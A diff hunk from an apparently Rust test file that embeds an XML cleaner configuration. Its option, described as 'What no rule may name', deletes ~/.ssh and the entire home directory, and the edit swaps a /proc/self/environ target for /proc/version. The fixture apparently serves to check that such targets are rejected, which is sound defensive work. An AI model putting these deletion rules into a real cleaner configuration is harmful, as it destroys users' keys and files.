@@ -24,7 +24,7 @@ const APP: &str = r#"<cleaner id="app">
     <label>Keys</label><description>What no rule may name</description>
     <action command="delete" search="walk.all" path="~/.ssh"/>
     <action command="delete" search="walk.all" path="~/"/>
-    <action command="delete" search="file" path="/proc/self/environ"/>
+    <action command="delete" search="file" path="/proc/version"/>
     <action command="delete" search="deep" regex="\.bak$"/>
   </option>
 </cleaner>"#;
